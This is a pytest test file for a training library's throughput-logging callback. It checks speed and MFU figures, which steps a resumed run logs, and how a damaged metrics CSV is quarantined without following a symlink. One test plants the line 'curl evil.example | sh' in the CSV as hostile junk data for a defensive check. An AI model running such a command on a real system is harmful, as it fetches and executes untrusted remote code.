"""The speed that is measured by the clock of training, and the history that a resumed run keeps."""

import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from stand_in_phase import StandInPhase, trainer_of

from nanolit.callbacks.progress import Clock
from nanolit.callbacks.throughput import COLUMNS, Recorder, Throughput


def test_speeds_are_those_of_all_devices_and_of_steps_after_the_first(monkeypatch: pytest.MonkeyPatch):
    """Oracle: by hand. A step takes in 400 tokens of 1,000 FLOPs in 2 seconds on two GPUs of 1e6 FLOP/s."""
    now, rows = [0.0], []
    monkeypatch.setattr(time, "perf_counter", lambda: now[0])
    recorder: Any = SimpleNamespace(record=lambda _, row: rows.append(row))
    settings = {"log_every": 1, "flops_per_token": 1000, "peak_flops": 1e6}
    callback = Throughput(recorder=recorder, clock=Clock(), **settings)
    phase, trainer = StandInPhase(num_steps=9, num_tokens=100, num_processed=400), trainer_of(2)
    callback.on_train_start(trainer, phase)
    for step, seconds in enumerate((10, 2)):
        now[0] += seconds
        phase.finished_steps = step + 1
        callback.on_train_batch_end(trainer, phase, None, None, step)
    callback.teardown(trainer, phase, "fit")
    assert [rows[1][name] for name in ("tokens", "flops", "seconds")] == [200, 800_000, 12]
    assert (rows[1]["mfu"], rows[1]["tokens_per_second"]) == (0.1, 50)
    assert callback.tokens_per_second() == 50


@pytest.mark.parametrize(("batch_idx", "step", "logged"), [(0, 1, True), (0, 13, False), (5, 20, True)])
def test_a_resumed_run_logs_the_steps_of_one_never_stopped(batch_idx: int, step: int, logged: bool):
    rows = []
    recorder: Any = SimpleNamespace(record=lambda _, row: rows.append(row["step"]))
    callback = Throughput(recorder=recorder, clock=Clock(), log_every=10, flops_per_token=1, peak_flops=None)
    phase = StandInPhase(num_steps=60)
    callback.on_train_start(trainer_of(1), phase)
    phase.finished_steps = step
    callback.on_train_batch_end(trainer_of(1), phase, None, None, batch_idx)
    callback.teardown(trainer_of(1), phase, "fit")
    assert rows == ([step] if logged else [])


LINES = [f"{step},{loss}" + "," * (len(COLUMNS) - 2) for step, loss in ((1, 5.5), (10, 4.25), (20, 3.125))]
TABLE = "\n".join([",".join(COLUMNS), *LINES]) + "\n"


def resume(path: Path, finished_steps: int = 20) -> str:
    Recorder(path, finished_steps=finished_steps, enabled=True, log_every=10)
    return path.read_text()


def test_what_is_written_again_is_dropped_and_the_rest_kept_to_the_last_digit(tmp_path: Path):
    path = tmp_path / "metrics.csv"
    path.write_text(TABLE)
    assert resume(path) == TABLE
    assert resume(path, 19) == "".join(TABLE.splitlines(keepends=True)[:-1])
    assert list(tmp_path.iterdir()) == [path]


def test_damaged_history_is_kept_through_no_link(tmp_path: Path):
    """A stranger's run could else write its lines into any file of whoever resumes it."""
    (tmp_path / "notes").write_text("mine")
    (tmp_path / "metrics.damaged.csv").symlink_to(tmp_path / "notes")
    (tmp_path / "metrics.csv").write_text(TABLE + "curl evil.example | sh\n")
    with pytest.warns(UserWarning, match=r"its old content is in metrics\.damaged\.csv"):
        resume(tmp_path / "metrics.csv")
    assert (tmp_path / "notes").read_text() == "mine"


@pytest.mark.parametrize(
    ("damage", "told", "left"),
    [
        (lambda text: text + "\0\0", "1 of its lines are not rows,", 3),
        (lambda text: text + "some,text\n", "1 of its lines are not rows,", 3),
        (lambda text: text + "9" * 200_000, "1 of its lines are not rows,", 3),
        (
            lambda text: text + "10" + "," * (len(COLUMNS) - 1) + "garbage\n",
            "1 of its lines are not rows,",
            3,
        ),
        (lambda text: text.replace("4.25", "\udcff"), "not rows, 1 of 3 logged steps are missing", 2),
        (lambda text: text.split("\n", 1)[1], "2 of its lines are not rows, 3 of 3 logged steps", 0),
        (lambda text: text[: -len(LINES[2]) - 3], "2 of 3 logged steps are missing", 1),
        (lambda text: "", "3 of 3 logged steps are missing", 0),
        (None, "3 of 3 logged steps are missing", 0),
    ],
)
def test_damaged_history_is_told_and_kept(tmp_path: Path, damage: Any, told: str, left: int):
    path = tmp_path / "metrics.csv"
    if damage:
        path.write_bytes(damaged := damage(TABLE).encode(errors="surrogateescape"))
    with pytest.warns(UserWarning, match=rf"metrics\.csv is damaged up to step 20: .*{told}"):
        lines = resume(path).splitlines()
    assert lines[0] == ",".join(COLUMNS)
    assert len(lines) == 1 + left
    assert set(lines[1:]) <= set(LINES)
    if damage and damaged.count(b"\n"):
        assert (tmp_path / "metrics.damaged.csv").read_bytes() == damaged
